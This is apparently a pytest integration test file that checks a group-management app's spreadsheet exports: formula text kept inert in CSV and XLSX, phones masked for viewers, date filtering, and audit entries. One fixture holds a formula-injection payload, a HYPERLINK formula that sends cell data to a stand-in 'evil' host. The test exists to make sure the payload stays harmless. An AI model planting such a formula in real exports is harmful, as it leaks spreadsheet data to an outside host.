"""Exports for spreadsheets: every kind writes its rows with words for codes, a nickname
that reads like a formula stays text in CSV and XLSX, phones are masked for a viewer and
not for an operator, a date range narrows the messages, every export is audited."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import Connection, select, update

from qunyun.adapters.storage.tables import audit_log, members
from qunyun.bootstrap import Runtime
from qunyun.services import exports, users
from qunyun.services.errors import InvalidInput
from qunyun.services.users import SYSTEM, actor_by_username
from tests.factories import T0, raw_join, raw_message
from tests.integration.test_lifecycle import feed

TZ = ZoneInfo("Asia/Shanghai")
EVIL = '=HYPERLINK("http://evil/?"&B2,"点我")'


def build(conn: Connection, runtime: Runtime) -> None:
    WRITE["rt"] = runtime
    feed(conn, runtime, [raw_join("j1", "g1", "u1", name=EVIL),
                         raw_join("j2", "g1", "u2", name="小王"),
                         raw_message("m1", "g1", "u1", "+1 我也要", minutes=5),
                         raw_message("m2", "g1", "u2", "第二天", minutes=24 * 60)])
    conn.execute(update(members).where(members.c.display_name == "小王")
                 .values(phone="13812345678"))


WRITE: dict[str, Runtime] = {}


def write(conn: Connection, kind: str, fmt: str = "csv", actor: object = SYSTEM,
          **kw: object) -> tuple[int, bytes]:
    out = io.BytesIO()
    n = exports.do_export(WRITE["rt"].uow, actor=actor, kind=kind, fmt=fmt,  # type: ignore[arg-type]
                          out=out, tz=TZ, now=T0 + timedelta(days=3), **kw)  # type: ignore[arg-type]
    return n, out.getvalue()


def rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_every_kind_and_formulas_stay_text(conn: Connection, runtime: Runtime) -> None:
    build(conn, runtime)
    n, body = write(conn, "members")
    table = rows(body)
    assert n == 2 and table[0][:3] == ["成员编号", "昵称", "首次出现"]
    names = [r[1] for r in table[1:]]
    assert "'" + EVIL in names  # never a live formula
    assert "13812345678" in [r[4] for r in table[1:]]  # the system sees the phone
    _n, body = write(conn, "messages")
    said = rows(body)
    assert [r[6] for r in said[1:]] == ["'+1 我也要", "第二天"] and said[1][4] == "成员发"
    _n, body = write(conn, "groups")
    assert rows(body)[1][1:5] == ["群g1", "演练环境", "长期群", "运营中"]
    _n, body = write(conn, "events")
    assert [r[1] for r in rows(body)[1:]] == ["入群", "入群"]
    for kind in ("activities", "conversions"):
        assert write(conn, kind)[0] == 0
    # a range: only the second day's message
    n, _body = write(conn, "messages", since="2026-11-21")  # the team-local day
    assert n == 1
    n, xlsx = write(conn, "members", "xlsx")
    sheet = zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
    assert n == 2 and "HYPERLINK" in sheet and "<f>" not in sheet  # text, not a formula
    audited = [r.detail for r in conn.execute(select(audit_log.c.detail).where(
        audit_log.c.action == "export"))]
    assert {d["kind"] for d in audited} >= {"members", "messages", "groups", "events"}
    with pytest.raises(InvalidInput):
        write(conn, "passwords")
    with pytest.raises(InvalidInput):
        write(conn, "members", "pdf")
    with pytest.raises(InvalidInput):
        write(conn, "plan")


def test_a_viewer_gets_phones_masked(conn: Connection, runtime: Runtime) -> None:
    build(conn, runtime)
    users.do_create_user(conn, actor=SYSTEM, username="looker", password="a-long-password-1",
                         role="viewer")
    viewer = actor_by_username(conn, "looker")
    _n, body = write(conn, "members", actor=viewer)
    phones = [r[4] for r in rows(body)[1:]]
    assert "138****5678" in phones and "13812345678" not in phones
